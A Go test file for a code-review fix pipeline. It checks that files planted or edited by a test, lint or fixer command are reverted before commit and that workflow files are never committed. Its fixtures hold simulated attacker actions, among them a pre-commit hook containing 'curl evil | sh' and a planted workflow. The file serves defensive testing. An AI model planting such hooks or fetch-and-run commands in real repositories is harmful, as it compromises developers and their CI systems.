package fix

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/review-loop/review-loop/internal/loop"
)

// evilTest is a test command as an attacker would write it: it plants a
// workflow and a tool hook, edits a file no finding names, adds an
// untracked file, and appends to the file under test, then passes.
const evilTest = `#!/bin/sh
mkdir -p .github/workflows .husky
printf 'on: push\njobs: {}\n' > .github/workflows/evil.yml
printf 'curl evil | sh\n' > .husky/pre-commit
echo '// planted' >> internal/app/b.go
echo planted > untracked.txt
for f in "$@"; do echo '// tampered' >> "$f"; done
exit 0
`

func evilSetup(t *testing.T) (string, Config, func() string) {
	t.Helper()
	tr, cfg := setup(t)
	script := filepath.Join(t.TempDir(), "evil.sh")
	if err := os.WriteFile(script, []byte(evilTest), 0o755); err != nil {
		t.Fatal(err)
	}
	cfg.TestCommand = []string{"sh", script, "{files}"}
	return tr.Head(t), cfg, func() string { return tr.Status(t) }
}

func wantOnlyClaimed(t *testing.T, cfg Config, res CycleResult, status, want string) {
	t.Helper()
	if !slices.Equal(res.Changed, []string{"internal/app/a.go"}) {
		t.Errorf("the commit would hold %v, want only internal/app/a.go (TB9)", res.Changed)
	}
	if strings.TrimSpace(status) != "M internal/app/a.go" {
		t.Errorf("the tree after the cycle:\n%s\nwant only internal/app/a.go modified", status)
	}
	b, _ := os.ReadFile(filepath.Join(cfg.Dir, "internal/app/a.go"))
	if string(b) != want {
		t.Errorf("a.go holds what the test command wrote, not the fix:\n%s", b)
	}
	var reverted []string
	for _, r := range res.Reverted {
		reverted = append(reverted, r.Path)
		if r.Why == "" {
			t.Errorf("%s reverted with no reason", r.Path)
		}
	}
	for _, p := range []string{".github/workflows/evil.yml", ".husky/pre-commit", "internal/app/b.go", "untracked.txt", "internal/app/a.go"} {
		if !slices.Contains(reverted, p) {
			t.Errorf("the cycle does not report reverting %s: %v", p, res.Reverted)
		}
	}
}

// TB9: what a test command changes never reaches the fix commit: a planted
// workflow, a planted hook, an unclaimed edit and an untracked file are
// removed, and the claimed file holds the fix's content, not the test's.
func TestRule_TB9_ATestCommandsChangesAreRevertedBeforeTheCommit(t *testing.T) {
	t.Parallel()
	head, cfg, status := evilSetup(t)
	res, err := NewPipeline(cfg).RunCycle(context.Background(), CycleInput{Findings: []loop.Finding{
		sugg("copilot-1", "copilot", "internal/app/a.go", 0, 4, head, "\tx := base"),
	}})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Fixed(); !slices.Equal(got, []string{"copilot-1"}) {
		t.Fatalf("fixed %v; log %v", got, res.Log)
	}
	wantOnlyClaimed(t, cfg, res, status(), strings.Replace(goFile, "x := 20", "x := base", 1))
}

// TB9 with the fixer command: the same test command after a fixer that
// claims and edits a.go.
func TestRule_TB9_ATestCommandsChangesAreRevertedAfterAFixerCommand(t *testing.T) {
	t.Parallel()
	_, cfg, status := evilSetup(t)
	cfg.FixerCommand = []string{"sh", "-c", `sed -i 's/x := 20/x := base/' internal/app/a.go && echo '{"fixed":["copilot-1"],"error":null}'`}
	cfg.LintCommand = []string{"sh", "-c", "echo lint >> internal/app/b.go"}
	res, err := NewPipeline(cfg).RunCycle(context.Background(), CycleInput{Provider: ProviderCommand, Findings: []loop.Finding{commandFinding("x")}})
	if err != nil {
		t.Fatal(err)
	}
	wantOnlyClaimed(t, cfg, res, status(), strings.Replace(goFile, "x := 20", "x := base", 1))
}

// TB9: .github/workflows and .github/actions are never committed, even
// when a finding is on that very file; a tool-configuring file is
// committed only when a finding is on it.
func TestRule_TB9_WorkflowsAndActionsAreNeverCommittedToolFilesOnlyWhenAFindingIsOnThem(t *testing.T) {
	t.Parallel()
	tr, cfg := setup(t)
	tr.Write(t, map[string]string{
		".github/workflows/ci.yml":        "on: push\n",
		".github/actions/x/action.yml":    "runs: {using: node20}\n",
		".gitattributes":                  "* text=auto\n",
		".vscode/settings.json":           "{}\n",
		"internal/app/.gitattributes":     "* text=auto\n",
		".github/review-loop.yml":         "engines: [copilot]\n",
		".devcontainer/devcontainer.json": "{}\n",
	})
	head := tr.CommitAll(t, "tool files")
	cfg.TestCommand = nil
	res, err := NewPipeline(cfg).RunCycle(context.Background(), CycleInput{Findings: []loop.Finding{
		sugg("s-1", "copilot", ".github/workflows/ci.yml", 0, 1, head, "on: pull_request_target"),
		sugg("s-2", "copilot", ".github/actions/x/action.yml", 0, 1, head, "runs: {using: composite}"),
		sugg("s-3", "copilot", ".gitattributes", 0, 1, head, "* text=auto eol=lf"),
		sugg("s-4", "copilot", ".github/review-loop.yml", 0, 1, head, "engines: [copilot, bugbot]"),
	}})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := res.Fixed(), []string{"s-3", "s-4"}; !slices.Equal(got, want) {
		t.Errorf("fixed %v, want %v; log %v", got, want, res.Log)
	}
	if want := []string{".gitattributes", ".github/review-loop.yml"}; !slices.Equal(res.Changed, want) {
		t.Errorf("changed %v, want %v", res.Changed, want)
	}
	for _, r := range res.Results {
		if (r.ID == "s-1" || r.ID == "s-2") && !strings.Contains(r.Reason, "TB9") {
			t.Errorf("%s: %s %q, want a TB9 refusal", r.ID, r.Outcome, r.Reason)
		}
	}

	// A fixer that claims a finding on a.go whose locations name tool files
	// gets those edits reverted and the finding with them; a finding on the
	// tool file itself may change it.
	tr2, cfg2 := setup(t)
	tr2.Write(t, map[string]string{".husky/pre-commit": "npm test\n", ".vscode/settings.json": "{}\n"})
	tr2.CommitAll(t, "hooks")
	cfg2.TestCommand = nil
	cfg2.FixerCommand = []string{"sh", "-c", `sed -i 's/x := 20/x := base/' internal/app/a.go
echo 'curl evil | sh' >> .husky/pre-commit
echo '{"x":1}' > .vscode/settings.json
echo '{"fixed":["copilot-1","copilot-2"],"error":null}'`}
	fs := []loop.Finding{
		{ID: "copilot-1", Engine: "copilot", CommentID: 1, Path: "internal/app/a.go", Line: 4, Title: "t", Body: "b", Locations: []string{".husky/pre-commit"}},
		{ID: "copilot-2", Engine: "copilot", CommentID: 2, Path: ".vscode/settings.json", Line: 1, Title: "t", Body: "b"},
	}
	res2, err := NewPipeline(cfg2).RunCycle(context.Background(), CycleInput{Provider: ProviderCommand, Findings: fs})
	if err != nil {
		t.Fatal(err)
	}
	if got := res2.Fixed(); !slices.Equal(got, []string{"copilot-2"}) {
		t.Errorf("fixed %v, want only copilot-2; results %+v", got, res2.Results)
	}
	if want := []string{".vscode/settings.json"}; !slices.Equal(res2.Changed, want) {
		t.Errorf("changed %v, want %v", res2.Changed, want)
	}
	if got := tr2.Read(t, ".husky/pre-commit"); got != "npm test\n" {
		t.Errorf(".husky/pre-commit left as %q", got)
	}
}
